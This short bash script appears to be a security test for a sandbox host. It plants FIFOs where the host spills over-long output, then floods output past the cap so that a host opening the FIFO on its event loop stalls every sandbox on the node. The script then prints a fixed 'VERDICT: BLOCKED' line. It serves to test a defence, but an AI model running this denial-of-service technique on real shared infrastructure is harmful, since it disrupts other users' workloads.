#!/bin/bash
# Attack (denial of service) on the output spill: put FIFOs where the host will write an over-long output,
# then overflow the cap. Opening a FIFO for writing blocks until someone reads it: if the host opens it
# on its event loop, every sandbox on the node stalls. $1 = seconds after which a reader drains the FIFOs
# (so a vulnerable host recovers and the test can measure the stall).
mkdir -p /tmp/ale-output
for n in $(seq 1 20); do mkfifo /tmp/ale-output/exec-$n.stdout; done
setsid bash -c "sleep $1; for f in /tmp/ale-output/*.stdout; do timeout 1 cat \$f >/dev/null & done; wait" </dev/null >/dev/null 2>&1 &
head -c 20000 /dev/zero | tr '\0' 'A'
echo
echo "VERDICT: BLOCKED"
